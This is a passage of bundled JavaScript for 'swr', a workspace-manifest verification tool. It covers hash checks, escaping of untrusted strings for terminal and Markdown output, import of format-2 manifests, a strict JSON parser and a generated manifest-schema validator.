        files = diffIndex(index, walk.records, extra).diff;
        detail = describeDiff(files);
    }
    const f = finding(e, 'CORRUPT', 'content', detail, recorded, { ...found, content: verifier_short(digest) }, cached);
    return files ? { ...f, files } : f;
}
/** Recompute per-file hashes synchronously (only on a cached mismatch, which is rare). */
function contentExtras(root, walk) {
    const extras = linkTargets(root, walk.records);
    walk.records.forEach((r, i) => {
        if (r.type !== 'f')
            return;
        try {
            extras[i] = hashFile(`${root}/${r.rel}`).sha256;
        }
        catch {
            extras[i] = undefined;
        }
    });
    return extras;
}
function okDetail(e, walk, content) {
    const what = content
        ? 'content digest matches'
        : e.expect.meta_digest
            ? 'metadata digest matches'
            : 'loose: sentinels and count only';
    return `${num(walk.files)} files, ${e.expect.sentinels.length} sentinels, ${what}`;
}

;// CONCATENATED MODULE: ./src/core/verify/index.ts
/**
 * Checking a manifest: each entry's verifier inspects it, all requested hashing runs through one
 * pool (largest first, across entries), then each verifier judges its results. Read-only: nothing
 * is run and nothing in the workspace is written.
 */






function inspect(e, ctx) {
    switch (e.kind) {
        case 'file':
            return verifyFile(e, ctx);
        case 'blob':
            return verifyBlob(e, ctx);
        case 'tree':
            return verifyTree(e, ctx);
        case 'link':
            return verifyLink(e, ctx);
    }
}
/** Verify `entries` in manifest order; findings come back in the same order. */
async function verifyEntries(entries, ctx, pool = {}) {
    const inspected = [];
    for (const e of entries)
        inspected.push(await inspect(e, ctx));
    const pending = inspected.filter(isPending);
    const jobs = pending.flatMap(p => p.jobs);
    const results = jobs.length > 0 ? await hashAll(jobs, pool) : [];
    let offset = 0;
    const judged = new Map();
    for (const p of pending) {
        judged.set(p, p.judge(results.slice(offset, offset + p.jobs.length)));
        offset += p.jobs.length;
    }
    ctx.cache.flush();
    return inspected.map(i => (isPending(i) ? judged.get(i) : i));
}

;// CONCATENATED MODULE: ./src/core/check.ts
/**
 * `check` as an engine call: select entries, verify them through one hash pool and the incremental
 * cache, and build the report. Read-only: no recipe, smoke command or ldd runs, and nothing in the
 * workspace is written (the cache lives in the private state directory).
 */









/** The entries `only` names, in manifest order; an unknown id is a usage error. */
function selectEntries(entries, only) {
    if (!only || only.length === 0)
        return [...entries];
    const known = new Set(entries.map(e => e.id));
    const unknown = only.filter(id => !known.has(id));
    if (unknown.length > 0)
        throw new UsageError(`--only: no entry with id ${unknown.map(u => `"${u}"`).join(', ')}`);
    const wanted = new Set(only);
    return entries.filter(e => wanted.has(e.id));
}
function entryDigests(entries) {
    return new Map(entries.map(e => [e.id, (0,external_node_crypto_.createHash)('sha256').update(canonicalBytes(e)).digest('hex')]));
}
/** The verification context for `entries` of `m`: cache, exclusions, index reader. */
function verifyContext(m, entries, opts) {
    return {
        workspace: m.workspace,
        jobs: opts.jobs,
        deep: opts.deep === true,
        metaOnly: opts.metaOnly === true,
        cache: openCache({
            stateDir: opts.stateDir,
            manifestFile: m.file,
            entryDigests: entryDigests(entries),
            read: opts.cache !== false
        }),
        exclude: ownPaths(m.file, opts.stateDir),
        readIndex: (id, ref) => readIndex(indexPath(m.file, id), ref)
    };
}
async function checkManifest(m, opts) {
    const started = new Date();
    const t0 = performance.now();
    const entries = selectEntries(m.body.entries, opts.only);
    const findings = await verifyEntries(entries, verifyContext(m, entries, opts), {
        jobs: opts.jobs,
        onProgress: opts.onProgress
    });
    return buildReport({
        command: opts.command ?? 'check',
        version: opts.version,
        manifest: m,
        findings,
        options: {
            deep: opts.deep === true,
            meta_only: opts.metaOnly === true,
            cache: opts.cache !== false,
            only: opts.only ?? []
        },
        started,
        ms: performance.now() - t0,
        ...(opts.fixCommand ? { fixCommand: opts.fixCommand } : {})
    });
}
/** Verify `entries` afresh (no cached hashes), as repair does after each step. */
function reverifier(m, stateDir, jobs) {
    return entries => verifyEntries(entries, verifyContext(m, entries, { stateDir, cache: false, jobs }), { jobs });
}
/**
 * swr's own files that may sit inside a workspace (a $HOME workspace holds the default state
 * directory; a tree at "." holds the manifest): never part of what a tree is judged by. Parent
 * directories that hold nothing but the state directory (~/.local/state made for it) go too.
 */
function ownPaths(manifestFile, stateDir) {
    const real = (p) => {
        try {
            return external_node_fs_default().realpathSync(p);
        }
        catch {
            return external_node_path_default().resolve(p);
        }
    };
    const dir = real(external_node_path_default().dirname(manifestFile));
    const state = real(stateDir);
    const out = new Set([state, external_node_path_default().join(dir, external_node_path_default().basename(manifestFile)), external_node_path_default().join(dir, 'trees')]);
    if (external_node_path_default().basename(dir) === '.swr')
        out.add(dir);
    for (let child = state, parent = external_node_path_default().dirname(state); parent !== child; child = parent, parent = external_node_path_default().dirname(parent)) {
        let names;
        try {
            names = external_node_fs_default().readdirSync(parent);
        }
        catch {
            break;
        }
        if (names.length !== 1 || names[0] !== external_node_path_default().basename(child))
            break;
        out.add(parent);
    }
    return out;
}

;// CONCATENATED MODULE: ./src/core/report/escape.ts
/**
 * Rendering an untrusted string (a file name, link target, manifest id, path or note, recipe
 * text) as part of ONE line of output. Whoever wrote the workspace or the manifest chose these
 * bytes: printed raw, a newline starts a line of their choosing (a workflow command in the
 * Action's log, a fake `OK` line in a terminal), ESC or CSI rewrites the screen, and bidi controls
 * reorder what the reader sees. Every printer passes such strings through `escapeText`.
 */
/** Bidi controls: they make text display in another order than it is stored. */
const BIDI = new Set([
    0x061c, 0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069
]);
const NAMED = { 0x09: '\\t', 0x0a: '\\n', 0x0d: '\\r' };
/** The default bound for a manifest string quoted in an error line. */
const QUOTE_MAX = 200;
/** True for C0, DEL, C1 and bidi controls: the characters no single line may carry raw. */
function isControl(code) {
    return code <= 0x1f || (code >= 0x7f && code <= 0x9f) || BIDI.has(code);
}
function hex(code, width) {
    return code.toString(16).padStart(width, '0');
}
function visible(code, percent) {
    if (NAMED[code])
        return NAMED[code];
    if (code <= 0xff && isControl(code))
        return `\\x${hex(code, 2)}`;
    if (BIDI.has(code))
        return `\\u${hex(code, 4)}`;
    if (percent && code === 0x25)
        return '%25';
    return undefined;
}
/**
 * `s` with every control, DEL, C1 and bidi control shown as a visible escape (`\n`, `\x1b`,
 * `\u202e`), so the result never breaks or rewrites a line. With `max`, a longer result is cut and
 * ends with `…[+N chars]`. Idempotent without `percent`: escaping twice changes nothing, so a line
 * built from escaped parts may be escaped again by the printer.
 */
function escapeText(s, opts = {}) {
    const max = opts.max ?? Number.POSITIVE_INFINITY;
    const percent = opts.percent === true;
    let out = '';
    let i = 0;
    for (; i < s.length; i++) {
        const code = s.charCodeAt(i);
        const piece = visible(code, percent) ?? s.charAt(i);
        if (out.length + piece.length > max)
            break;
        out += piece;
    }
    if (i >= s.length)
        return out;
    // Never leave half a surrogate pair at the cut.
    const last = out.charCodeAt(out.length - 1);
    if (last >= 0xd800 && last <= 0xdbff) {
        out = out.slice(0, -1);
        i--;
    }
    return `${out}…[+${s.length - i} chars]`;
}
/** A manifest string quoted in a message: escaped, bounded, in double quotes. */
function quoted(s, max = QUOTE_MAX) {
    return `"${escapeText(s, { max })}"`;
}
/**
 * `escapeText`, then the characters Markdown and HTML act on backslash-escaped (CommonMark lets
 * any ASCII punctuation be): in a job summary an untrusted string stays literal text, never a
 * table cell, link, image, emphasis, code span or HTML.
 */
function escape_escapeMarkdown(s, opts = {}) {
    return escapeText(s, opts).replace(/[\\`*_[\]<>&|~!#]/g, '\\$&');
}
/**
 * An untrusted string as a Markdown code span: nothing inside is interpreted, so only a backtick
 * (which would close the span, shown as `\x60`) and `|` (which GitHub's tables split cells on even
 * there, written `\|`) need care.
 */
function escape_markdownCode(s, opts = {}) {
    return '`' + escapeText(s, opts).replace(/`/g, '\\x60').replace(/\|/g, '\\|') + '`';
}

;// CONCATENATED MODULE: ./src/core/manifest/import-v2.ts
/**
 * Reading the original tool's format-2 manifests. `swr check` accepts one directly and `swr import`
 * writes the converted body as format 3 (unsigned until signed). What format 3 cannot carry over
 * (ldd lists, the old metadata "merkle", smoke timeouts) is dropped and reported as a note.
 */





const isObj = (v) => typeof v === 'object' && v !== null && !Array.isArray(v);
/** True for a format-2 document: top-level `version: 2` with `entries` and no `body`. */
function isV2Document(value) {
    return isObj(value) && value.version === 2 && Array.isArray(value.entries) && !('body' in value);
}
/** Convert a format-2 document; throws ManifestError listing every entry that cannot be read. */
function convertV2(v2, file, home = external_node_os_default().homedir()) {
    const problems = [];
    const notes = [];
    const workspace = typeof v2.workspace === 'string' ? v2.workspace : home;
    if (!external_node_path_default().isAbsolute(workspace))
        problems.push(`${file}: workspace must be absolute in format 2`);
    if (typeof v2.created === 'number' &&
        !(Number.isSafeInteger(v2.created) && Math.abs(v2.created) <= 8.64e12)) {
        problems.push(`${file}: created ${v2.created} is not a unix time in seconds`);
    }
    const created = typeof v2.created === 'number' &&
        Number.isSafeInteger(v2.created) &&
        Math.abs(v2.created) <= 8.64e12
        ? new Date(v2.created * 1000).toISOString().replace(/\.\d+Z$/, 'Z')
        : new Date(0).toISOString().replace(/\.\d+Z$/, 'Z');
    const entries = [];
    v2.entries.forEach((raw, i) => {
        const where = `${file}: entry #${i + 1}`;
        if (!isObj(raw))
            return void problems.push(`${where} is not an object`);
        const converted = convertEntry(raw, workspace, where, notes);
        if (typeof converted === 'string')
            problems.push(converted);
        else
            entries.push(converted);
    });
    if (problems.length > 0)
        throw new ManifestError(problems[0] ?? file, problems);
    if (v2._sig !== undefined || v2._pksig !== undefined) {
        notes.push('format-2 signatures are not carried over: sign the converted manifest again');
    }
    return {
        doc: { body: { schema: 3, version: 1, workspace, created, entries }, signatures: [] },
        notes
    };
}
function str(v) {
    return typeof v === 'string' ? v : undefined;
}
function import_v2_int(v) {
    return typeof v === 'number' && Number.isSafeInteger(v) && v >= 0 ? v : undefined;
}
function convertEntry(raw, workspace, where, notes) {
    const id = str(raw.id);
    if (id === undefined || !ENTRY_ID.test(id)) {
        return `${where}: id ${typeof raw.id === 'string' ? quoted(raw.id) : JSON.stringify(raw.id ?? null).slice(0, QUOTE_MAX)} must match ${ENTRY_ID.source}`;
    }
    const named = `${where} ("${id}")`;
    const rawPath = str(raw.path);
    if (rawPath === undefined || rawPath === '')
        return `${named}: path is required`;
    const rel = external_node_path_default().isAbsolute(rawPath)
        ? external_node_path_default().relative(workspace, rawPath)
        : external_node_path_default().posix.normalize(rawPath);
    const spelled = rel === '' ? '.' : rel.split((external_node_path_default()).sep).join('/').replace(/\/+$/, '');
    const problem = pathProblem(spelled);
    if (problem)
        return `${named}: path ${escapeText(rawPath, { max: QUOTE_MAX })} ${problem}`;
    const tierRaw = import_v2_int(raw.tier) ?? 2;
    if (tierRaw > 4)
        return `${named}: tier ${tierRaw} is not 0..4`;
    const needs = Array.isArray(raw.needs)
        ? raw.needs.filter((n) => typeof n === 'string')
        : [];
    const common = {
        id,
        path: spelled,
        tier: tierRaw,
        needs: [...new Set(needs)],
        ...(str(raw.restore) && !str(raw.restore)?.startsWith('swr-escrow:')
            ? { restore: str(raw.restore) }
            : {}),
        ...(import_v2_int(raw.timeout_s)
            ? { timeout_s: Math.min(86400, Math.max(1, import_v2_int(raw.timeout_s))) }
            : {}),
        ...(str(raw.smoke) ? { smoke: str(raw.smoke) } : {}),
        ...(str(raw.fragile) ? { note: str(raw.fragile) } : {})
    };
    if (str(raw.restore)?.startsWith('swr-escrow:'))
        notes.push(`${id}: escrow restore is not carried over`);
    if (raw.ldd !== undefined)
        notes.push(`${id}: ldd check dropped (swr never runs ldd during a check)`);
    const kind = str(raw.kind) ?? 'file';
    const sha = str(raw.sha256);
    const mode = str(raw.mode);
    const bytes = import_v2_int(raw.bytes);
    switch (kind) {
        case 'file':
            if (!sha || !/^[0-9a-f]{64}$/.test(sha))
                return `${named}: sha256 missing or malformed`;
            if (bytes === undefined)
                return `${named}: bytes missing`;
            if (!mode || !/^0?[0-7]{3,4}$/.test(mode))
                return `${named}: mode missing or malformed`;
            return {
                ...common,
                kind: 'file',
                expect: { size: bytes, sha256: sha, mode: mode.padStart(4, '0') }
            };
        case 'blob': {
            const headtail = str(raw.headtail);
            if (bytes === undefined)
                return `${named}: bytes missing`;
            if (!headtail || !/^[0-9a-f]{64}$/.test(headtail))
                return `${named}: headtail missing or malformed`;
            if (str(raw.upstream))
                notes.push(`${id}: upstream ${escapeText(str(raw.upstream) ?? '', { max: QUOTE_MAX })} kept only in the format-2 file`);
            return { ...common, kind: 'blob', expect: { size: bytes, headtail } };
        }
        case 'tree': {
            const sentinels = Array.isArray(raw.sentinels)
                ? raw.sentinels.filter((s) => typeof s === 'string')
                : [];
            const ignore = Array.isArray(raw.ignore_dirs)
                ? [
                    ...new Set(raw.ignore_dirs.filter((s) => typeof s === 'string' && s.length > 0))
                ]
                : [];
            notes.push(`${id}: tree has no content digest yet; capture it again with "swr add ${spelled} --kind tree"`);
            return {
                ...common,
                kind: 'tree',
                ignore,
                expect: { sentinels, min_files: import_v2_int(raw.min_files) ?? 1 }
            };
        }
        default:
            return `${named}: kind ${quoted(kind)} is not file, blob or tree`;
    }
}

// EXTERNAL MODULE: ./node_modules/jsonc-parser/lib/umd/main.js
var main = __nccwpck_require__(9547);
;// CONCATENATED MODULE: ./src/core/manifest/strict-json.ts
/**
 * A strict JSON reader for documents whose bytes are signed. `JSON.parse` keeps the last of two
 * duplicate keys, accepts 1e400 and lone surrogates, and says nothing about where a value was:
 * a reviewer could approve one value while the tool runs another. The tokenizer is jsonc-parser's;
 * this module refuses everything that could read two ways and records the line of each value.
 */


const DEFAULT_LIMITS = {
    maxBytes: 64 * 1024 * 1024,
    maxDepth: 32,
    maxArrayLength: 100_000
};
/** Thrown with every problem found; the message is the first one, with its place. */
class StrictJsonError extends Error {
    problems;
    constructor(problems) {
        super(problems[0] ?? 'invalid JSON');
        this.problems = problems;
        this.name = 'StrictJsonError';
    }
}
const FORBIDDEN_KEYS = new Set(['__proto__', 'constructor', 'prototype']);
// "-0" is refused too: canonical JSON prints it as 0, so two texts would sign alike.
const INTEGER = /^(?:0|-?[1-9][0-9]*)$/;
/** Parse `text` or throw StrictJsonError naming each place (`line:col $.path`). */
function parseStrictJson(text, limits = DEFAULT_LIMITS) {
    const bytes = Buffer.byteLength(text, 'utf8');
    if (bytes > limits.maxBytes) {
        throw new StrictJsonError([
            `document is ${bytes} bytes, over the ${limits.maxBytes}-byte limit`
        ]);
    }
    // jsonc-parser recurses per nesting level: refuse deep documents before it can overflow the stack.
    const tooDeep = depthProblem(text, limits.maxDepth);
    if (tooDeep)
        throw new StrictJsonError([tooDeep]);
    const problems = [];
    const lines = new Map();
    const stack = [];
    let root;
    let rootSeen = false;
    const at = (line, col, path) => `${line + 1}:${col + 1} ${path}`;
    const fail = (msg) => {
        if (problems.length < 50)
            problems.push(msg);
    };
    const childPath = () => {
        const top = stack[stack.length - 1];
        if (!top)
            return '$';
        if (top.kind === 'array')
            return `${top.path}[${top.value.length}]`;
        return `${top.path}${/^[A-Za-z_$][\w$]*$/.test(top.key ?? '') ? `.${top.key}` : `[${JSON.stringify(top.key)}]`}`;
    };
    const place = (value, line) => {
        const top = stack[stack.length - 1];
        const path = childPath();
        lines.set(path, line + 1);
        if (!top) {
            if (rootSeen)
                return;
            root = value;
            rootSeen = true;
        }
        else if (top.kind === 'array') {
            if (top.value.length >= limits.maxArrayLength) {
                fail(`${at(line, 0, top.path)}: array longer than ${limits.maxArrayLength} items`);
                return;
            }
            top.value.push(value);
        }
        else if (top.key !== undefined) {
            top.value[top.key] = value;
            top.key = undefined;
        }
    };
    const open = (c, line, col) => {
        if (stack.length >= limits.maxDepth) {
            fail(`${at(line, col, c.path)}: nested deeper than ${limits.maxDepth} levels`);
        }
        stack.push(c);
    };
    // The depth check above bounds the parser's recursion; should it ever miss, a stack overflow
    // is still a refused document and not a crash.
    try {
        (0,main.visit)(text, {
            onObjectBegin: (_o, _l, line, col) => {
                const value = {};
                const path = childPath();
                place(value, line);
                open({ kind: 'object', value, path }, line, col);
            },
            onObjectProperty: (key, _o, _l, line, col) => {
                const top = stack[stack.length - 1];
                if (!top || top.kind !== 'object')
                    return;
                const path = `${top.path}[${JSON.stringify(key)}]`;
                if (!key.isWellFormed())
                    fail(`${at(line, col, top.path)}: key has a lone surrogate`);
                else if (FORBIDDEN_KEYS.has(key))
                    fail(`${at(line, col, path)}: key ${quoted(key)} is not allowed`);
                else if (Object.hasOwn(top.value, key))
                    fail(`${at(line, col, path)}: duplicate key ${quoted(key)}`);
                top.key = key;
            },
            onObjectEnd: () => {
                stack.pop();
            },
            onArrayBegin: (_o, _l, line, col) => {
                const value = [];
                const path = childPath();
                place(value, line);
                open({ kind: 'array', value, path }, line, col);
            },
            onArrayEnd: () => {
                stack.pop();
            },
            onLiteralValue: (value, offset, length, line, col) => {
                const path = childPath();
                if (typeof value === 'number') {
                    const raw = text.slice(offset, offset + length);
                    if (!INTEGER.test(raw) || !Number.isSafeInteger(value)) {
                        fail(`${at(line, col, path)}: number ${raw} is not a safe integer`);
                    }
                }
                else if (typeof value === 'string' && !value.isWellFormed()) {
                    fail(`${at(line, col, path)}: string has a lone surrogate`);
                }
                place(value, line);
            },
            onComment: (_o, _l, line, col) => fail(`${at(line, col, '$')}: comments are not JSON`),
            onError: (code, _o, _l, line, col) => {
                fail(`${line + 1}:${col + 1}: ${describe(code)}`);
            }
        }, { disallowComments: true, allowTrailingComma: false, allowEmptyContent: false });
    }
    catch (err) {
        if (!(err instanceof RangeError))
            throw err;
        throw new StrictJsonError([`nested too deeply to read (over ${limits.maxDepth} levels)`]);
    }
    if (!rootSeen && problems.length === 0)
        problems.push('1:1: empty document');
    if (problems.length > 0)
        throw new StrictJsonError(problems);
    return { value: root, lines };
}
/**
 * Where nesting first exceeds `max` levels, if it does. Counted on jsonc-parser's own tokens, so
 * strings and comments (`/*"*\/`) are skipped exactly as the parser skips them. Once a closing
 * bracket does not match, the parser's error recovery may skip brackets this count would pair up,
 * so from there on every opening bracket counts and none closes: an over-count refuses a document
 * that is refused anyway, an under-count would let it overflow the stack.
 */
// jsonc-parser's SyntaxKind is a const enum, which this build cannot read at run time.
const TOKEN = { openBrace: 1, closeBrace: 2, openBracket: 3, closeBracket: 4, eof: 17 };
function depthProblem(text, max) {
    const scanner = (0,main.createScanner)(text, false);
    const open = [];
    let broken = false;
    let depth = 0;
    for (let t = scanner.scan(); t !== TOKEN.eof; t = scanner.scan()) {
        if (t === TOKEN.openBrace || t === TOKEN.openBracket) {
            open.push(t);
            if (++depth > max)
                return `${scanner.getTokenStartLine() + 1}:${scanner.getTokenStartCharacter() + 1}: nested deeper than ${max} levels`;
        }
        else if (!broken && (t === TOKEN.closeBrace || t === TOKEN.closeBracket)) {
            const want = t === TOKEN.closeBrace ? TOKEN.openBrace : TOKEN.openBracket;
            if (open.pop() === want)
                depth--;
            else
                broken = true;
        }
    }
    return undefined;
}
function describe(code) {
    const name = (0,main.printParseErrorCode)(code);
    const words = {
        InvalidSymbol: 'unexpected character (trailing data, or not JSON)',
        EndOfFileExpected: 'trailing data after the document',
        InvalidUnicode: 'invalid \\u escape',
        InvalidEscapeCharacter: 'invalid escape in string',
        UnexpectedEndOfString: 'unterminated string',
        UnexpectedEndOfNumber: 'malformed number',
        UnexpectedEndOfComment: 'comments are not JSON',
        InvalidCommentToken: 'comments are not JSON',
        InvalidNumberFormat: 'malformed number',
        InvalidCharacter: 'control character in string',
        PropertyNameExpected: 'property name expected (trailing comma?)',
        CommaExpected: 'comma expected',
        ColonExpected: 'colon expected',
        ValueExpected: 'value expected',
        CloseBraceExpected: 'closing brace expected',
        CloseBracketExpected: 'closing bracket expected'
    };
    return words[name] ?? name;
}

;// CONCATENATED MODULE: ./src/core/manifest/read-fingerprint.ts
/**
 * What this process last read of each manifest file, so a save never replaces bytes it did not
 * read: if the file changed between the command's read and its write (a writer that ignored the
 * lock, or a lock lost mid-run), the save is refused with EXIT.CONFLICT and nothing is written.
 */




const lastSeen = new Map();
const sha = (bytes) => (0,external_node_crypto_.createHash)('sha256').update(bytes).digest('hex');
/** Record the bytes just read from (or written to) `file`. */
function noteManifestBytes(file, bytes) {
    lastSeen.set(external_node_path_default().resolve(file), sha(bytes));
}
/** Throw unless `file` holds what this process last read or wrote there (when it read it at all). */
function assertUnchangedSinceRead(file) {
    const abs = external_node_path_default().resolve(file);
    const seen = lastSeen.get(abs);
    if (seen === undefined)
        return;
    let now;
    try {
        now = sha(external_node_fs_default().readFileSync(abs));
    }
    catch {
        now = 'absent';
    }
    if (now !== seen)
        throw new SwrError(`${file} changed after this command read it (another writer); nothing was written: run the command again`, EXIT.CONFLICT);
}

// EXTERNAL MODULE: ./node_modules/ajv/dist/runtime/ucs2length.js
var ucs2length = __nccwpck_require__(6214);
// EXTERNAL MODULE: ./node_modules/ajv/dist/runtime/equal.js
var equal = __nccwpck_require__(4951);
;// CONCATENATED MODULE: ./src/core/manifest/generated/manifest-validator.js
// Generated by scripts/gen-validators.mjs from schema/manifest-v3.schema.json. Do not edit.
/* eslint-disable */
// @ts-nocheck

const func1 = ucs2length["default"] ?? ucs2length
;
const func0 = equal["default"] ?? equal
const validate = validate20;/* harmony default export */ const manifest_validator = ((/* unused pure expression or super */ null && (validate20)));const schema31 = {"$schema":"https://json-schema.org/draft/2020-12/schema","$id":"https://swr.dev/schema/manifest-v3.schema.json","title":"swr manifest, format 3","description":"What a workspace must contain, how each entry is verified, and how it is restored. `body` is what signatures cover; `signatures` sit beside it.","type":"object","additionalProperties":false,"required":["body","signatures"],"properties":{"$schema":{"type":"string","maxLength":1024},"body":{"$ref":"#/$defs/body"},"signatures":{"description":"Signatures over the body's DSSE pre-authentication encoding (payload type application/vnd.swr.manifest.v3+json, RFC 8785 body). Never inside the bytes they sign.","type":"array","maxItems":16,"items":{"type":"object","required":["alg"],"discriminator":{"propertyName":"alg"},"oneOf":[{"$ref":"#/$defs/hmacSignature"},{"$ref":"#/$defs/mldsaSignature"}],"properties":{"alg":{"enum":["hmac-sha256","ml-dsa-87"]}}}}},"$defs":{"sha256":{"type":"string","pattern":"^[0-9a-f]{64}$"},"mode":{"description":"Permission bits in octal, four digits, e.g. \"0755\".","type":"string","pattern":"^[0-7]{4}$"},"size":{"type":"integer","minimum":0,"maximum":9007199254740991},"id":{"type":"string","pattern":"^[A-Za-z0-9._-]{1,128}$"},"relpath":{"type":"string","minLength":1,"maxLength":4096},"body":{"type":"object","additionalProperties":false,"required":["schema","version","workspace","created","entries"],"properties":{"schema":{"const":3},"version":{"description":"Raised on every re-sign; a run may refuse versions below a floor.","type":"integer","minimum":1,"maximum":9007199254740991},"workspace":{"description":"The described directory: relative to the manifest file's directory, or absolute.","type":"string","minLength":1,"maxLength":4096},"created":{"type":"string","pattern":"^[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9]{2}:[0-9]{2}:[0-9]{2}(\\.[0-9]{1,9})?Z$"},"expires":{"type":"string","pattern":"^[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9]{2}:[0-9]{2}:[0-9]{2}(\\.[0-9]{1,9})?Z$"},"scope":{"description":"Where this manifest may run: compared with the run (in CI: GITHUB_REPOSITORY, GITHUB_REF) before any recipe runs.","type":"object","additionalProperties":false,"minProperties":1,"properties":{"repository":{"type":"string","pattern":"^[A-Za-z0-9_.-]+/[A-Za-z0-9_.-]+$"},"ref":{"description":"Glob over the full ref, e.g. refs/heads/main or refs/heads/release/**.","type":"string","minLength":1,"maxLength":256},"manifest_path":{"description":"The manifest's path relative to the workspace, e.g. .swr/manifest.json.","type":"string","minLength":1,"maxLength":4096}}},"shell":{"description":"The shell that runs recipes and smoke commands, as argv before the command (default [\"bash\", \"-c\"]).","type":"array","minItems":1,"maxItems":8,"items":{"type":"string","minLength":1,"maxLength":256}},"entries":{"type":"array","maxItems":10000,"items":{"$ref":"#/$defs/entry"}}}},"common":{"type":"object","required":["id","kind","path","tier","needs","expect"],"properties":{"id":{"$ref":"#/$defs/id"},"kind":{"enum":["file","blob","tree","link"]},"path":{"$ref":"#/$defs/relpath"},"tier":{"description":"Restore order: 0 credentials/shims, 1 scripts, 2 source trees, 3 large downloads, 4 build outputs.","type":"integer","minimum":0,"maximum":4},"needs":{"type":"array","maxItems":256,"uniqueItems":true,"items":{"$ref":"#/$defs/id"}},"restore":{"description":"How to recreate the entry: a shell recipe, or restore sources tried in order (recipes, and Actions caches) until the entry verifies.","oneOf":[{"type":"string","minLength":1,"maxLength":65536},{"type":"array","minItems":1,"maxItems":8,"items":{"oneOf":[{"type":"string","minLength":1,"maxLength":65536},{"$ref":"#/$defs/cacheSource"}]}}]},"timeout_s":{"type":"integer","minimum":1,"maximum":86400},"env":{"description":"Names of variables passed from the caller's environment to the recipe (besides PATH, HOME, LANG, TMPDIR).","type":"array","maxItems":64,"uniqueItems":true,"items":{"type":"string","pattern":"^[A-Za-z_][A-Za-z0-9_]{0,127}$"}},"secret_env":{"description":"Like env, and their values are scrubbed from recipe output and reports.","type":"array","maxItems":64,"uniqueItems":true,"items":{"type":"string","pattern":"^[A-Za-z_][A-Za-z0-9_]{0,127}$"}},"smoke":{"type":"string","minLength":1,"maxLength":65536},"note":{"type":"string","maxLength":4096},"expect":{"type":"object"}}},"entry":{"type":"object","required":["kind"],"properties":{"kind":{"enum":["file","blob","tree","link"]}},"allOf":[{"if":{"properties":{"kind":{"const":"file"}}},"then":{"$ref":"#/$defs/fileEntry"}},{"if":{"properties":{"kind":{"const":"blob"}}},"then":{"$ref":"#/$defs/blobEntry"}},{"if":{"properties":{"kind":{"const":"tree"}}},"then":{"$ref":"#/$defs/treeEntry"}},{"if":{"properties":{"kind":{"const":"link"}}},"then":{"$ref":"#/$defs/linkEntry"}}]},"fileEntry":{"$ref":"#/$defs/common","unevaluatedProperties":false,"properties":{"kind":{"const":"file"},"expect":{"type":"object","additionalProperties":false,"required":["size","sha256","mode"],"properties":{"size":{"$ref":"#/$defs/size"},"sha256":{"$ref":"#/$defs/sha256"},"mode":{"$ref":"#/$defs/mode"}}},"escrow":{"description":"The file's bytes, deflated and base64-encoded, checked against expect.sha256 when captured and restored.","type":"object","additionalProperties":false,"required":["encoding","data"],"properties":{"encoding":{"const":"deflate-base64"},"data":{"type":"string","maxLength":1048576,"pattern":"^[A-Za-z0-9+/]*={0,2}$"}}}}},"blobEntry":{"$ref":"#/$defs/common","unevaluatedProperties":false,"properties":{"kind":{"const":"blob"},"expect":{"type":"object","additionalProperties":false,"required":["size","headtail"],"properties":{"size":{"$ref":"#/$defs/size"},"headtail":{"$ref":"#/$defs/sha256"},"sha256":{"$ref":"#/$defs/sha256"},"mode":{"$ref":"#/$defs/mode"}}}}},"treeEntry":{"$ref":"#/$defs/common","unevaluatedProperties":false,"required":["ignore"],"properties":{"kind":{"const":"tree"},"ignore":{"description":"Directory or file names, or globs relative to the tree, left out of the walk.","type":"array","maxItems":256,"uniqueItems":true,"items":{"type":"string","minLength":1,"maxLength":1024}},"expect":{"type":"object","additionalProperties":false,"required":["sentinels","min_files"],"properties":{"sentinels":{"type":"array","maxItems":1024,"uniqueItems":true,"items":{"$ref":"#/$defs/relpath"}},"min_files":{"$ref":"#/$defs/size"},"max_files":{"$ref":"#/$defs/size"},"files":{"$ref":"#/$defs/size"},"meta_digest":{"$ref":"#/$defs/sha256"},"content_digest":{"$ref":"#/$defs/sha256"},"index":{"type":"object","additionalProperties":false,"required":["sha256","entries"],"properties":{"sha256":{"$ref":"#/$defs/sha256"},"entries":{"$ref":"#/$defs/size"}}}},"description":"A tree imported from format 2 may lack max_files, files and digests until it is captured again; it is then checked by sentinels and min_files only."}}},"linkEntry":{"$ref":"#/$defs/common","unevaluatedProperties":false,"properties":{"kind":{"const":"link"},"expect":{"type":"object","additionalProperties":false,"required":["target"],"properties":{"target":{"type":"string","minLength":1,"maxLength":4096}}}}},"hmacSignature":{"type":"object","additionalProperties":false,"required":["alg","keyid","sig"],"properties":{"alg":{"const":"hmac-sha256"},"keyid":{"type":"string","pattern":"^[0-9a-f]{16}$"},"sig":{"type":"string","pattern":"^[0-9a-f]{64}$"}}},"mldsaSignature":{"type":"object","additionalProperties":false,"required":["alg","keyid","public_key","sig"],"properties":{"alg":{"const":"ml-dsa-87"},"keyid":{"description":"Fingerprint hint for people; never trusted (the fingerprint is recomputed from public_key).","type":"string","pattern":"^[0-9a-f]{64}$"},"public_key":{"type":"string","minLength":3456,"maxLength":3460,"pattern":"^[A-Za-z0-9+/]+={0,2}$"},"sig":{"type":"string","minLength":6168,"maxLength":6172,"pattern":"^[A-Za-z0-9+/]+={0,2}$"}}},"cacheSource":{"type":"object","additionalProperties":false,"required":["cache"],"properties":{"cache":{"type":"object","additionalProperties":false,"required":["key"],"properties":{"key":{"type":"string","minLength":1,"maxLength":512},"restore-keys":{"type":"array","maxItems":16,"items":{"type":"string","minLength":1,"maxLength":512}}}}}}}};const schema58 = {"type":"object","additionalProperties":false,"required":["alg","keyid","sig"],"properties":{"alg":{"const":"hmac-sha256"},"keyid":{"type":"string","pattern":"^[0-9a-f]{16}$"},"sig":{"type":"string","pattern":"^[0-9a-f]{64}$"}}};const schema59 = {"type":"object","additionalProperties":false,"required":["alg","keyid","public_key","sig"],"properties":{"alg":{"const":"ml-dsa-87"},"keyid":{"description":"Fingerprint hint for people; never trusted (the fingerprint is recomputed from public_key).","type":"string","pattern":"^[0-9a-f]{64}$"},"public_key":{"type":"string","minLength":3456,"maxLength":3460,"pattern":"^[A-Za-z0-9+/]+={0,2}$"},"sig":{"type":"string","minLength":6168,"maxLength":6172,"pattern":"^[A-Za-z0-9+/]+={0,2}$"}}};const schema32 = {"type":"object","additionalProperties":false,"required":["schema","version","workspace","created","entries"],"properties":{"schema":{"const":3},"version":{"description":"Raised on every re-sign; a run may refuse versions below a 